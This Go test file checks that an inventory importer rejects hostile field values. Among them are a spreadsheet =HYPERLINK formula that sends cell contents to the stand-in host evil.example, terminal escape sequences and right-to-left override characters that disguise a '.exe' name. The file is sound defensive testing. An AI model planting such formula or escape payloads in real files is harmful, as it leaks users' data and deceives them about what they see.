package model

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
)

// An inventory is a file from anywhere: its text must not become a
// spreadsheet formula or a terminal escape sequence.

func TestImportRefusesAnyMigratedFromButJWT(t *testing.T) {
	s, _ := testService(t)
	inv := `{"format":"zoomconn-inventory","version":1,
"connections":[
{"name":"Formula","auth_type":"jwt","api_key":"k1","migrated_from":"=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"},
{"name":"Escapes","auth_type":"jwt","api_key":"k2","migrated_from":"\u001b]0;pwned\u0007\u001b[31mjwt"},
{"name":"Fine","auth_type":"jwt","api_key":"k3","migrated_from":"jwt"},
{"name":"Moon","environment":"moon","auth_type":"jwt","api_key":"k4"}
]}`
	_, err := importString(t, s, inv, "inventory.json")
	var ie *ImportError
	if !errors.As(err, &ie) {
		t.Fatalf("want an *ImportError, got %v", err)
	}
	msg := err.Error()
	for _, want := range []string{
		`line 3, migrated_from: Unknown value "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")": a connection can only have been migrated from "jwt"`,
		`line 4, migrated_from: Unknown value "\x1b]0;pwned\a\x1b[31mjwt"`,
		`line 6, environment: Unknown environment "moon"`, // the other problems are still all reported
	} {
		if !strings.Contains(msg, want) {
			t.Errorf("the message lacks %s:\n%s", want, msg)
		}
	}
	if len(ie.Problems) != 3 || strings.ContainsRune(msg, '\x1b') {
		t.Errorf("want exactly the 3 problems, with no raw escape:\n%q", msg)
	}
	if n := connectionCount(t, s); n != 0 {
		t.Fatalf("%d connections imported from a file with problems", n)
	}

	// What Export writes still comes back, and the report reads it.
	ok := `{"format":"zoomconn-inventory","version":1,"connections":[
{"name":"Reports","auth_type":"jwt","api_key":"k1","migrated_from":"jwt"},
{"name":"Webinar","auth_type":"jwt","api_key":"k2","migrated_from":"JWT (retired)"}]}`
	if _, err := importString(t, s, ok, "inventory.json"); err != nil {
		t.Fatal(err)
	}
	rows, _ := s.Files.Report()
	var b bytes.Buffer
	if err := WriteReportCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	recs, _ := csv.NewReader(&b).ReadAll()
	if len(recs) != 3 || recs[1][2] != "JWT (retired)" || recs[2][2] != "JWT (retired)" {
		t.Errorf("report %q", recs)
	}
}

func TestImportRefusesControlCharactersInText(t *testing.T) {
	s, _ := testService(t)
	for _, tc := range []struct{ conn, want string }{
		{`{"name":"Re\u001b[31mports","auth_type":"jwt","api_key":"k"}`, "line 2, name: The name cannot contain line breaks, tabs or other control characters."},
		{`{"name":"Reports \u202egnp.exe","auth_type":"jwt","api_key":"k"}`, "line 2, name: The name cannot contain"},
		{`{"name":"A","auth_type":"jwt","api_key":"k\u2066ey"}`, "line 2, api_key: The API Key contains an invisible control character."},
		{`{"name":"A","environment":"custom","oauth_base":"https://proxy.example\u202e","api_base":"https://proxy.example","auth_type":"jwt","api_key":"k"}`,
			"line 2, oauth_base: The OAuth base URL cannot contain control characters."},
	} {
		inv := "{\"format\":\"zoomconn-inventory\",\"version\":1,\n\"connections\":[" + tc.conn + "]}"
		_, err := importString(t, s, inv, "inventory.json")
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s:\n got %v\nwant …%s…", tc.conn, err, tc.want)
		}
	}
	inv := `{"format":"zoomconn-inventory","version":1,"iclients":[{"name":"App","app_type":"account","client_id":"cid"}],
"connections":[{"name":"A","auth_type":"oauth2","iclient":"App","scopes":"user:read\u001b]0;x\u0007"}]}`
	if _, err := importString(t, s, inv, "inventory.json"); err == nil || !strings.Contains(err.Error(), "scopes: The scopes cannot contain control characters") {
		t.Errorf("scopes with an escape sequence: %v", err)
	}
}
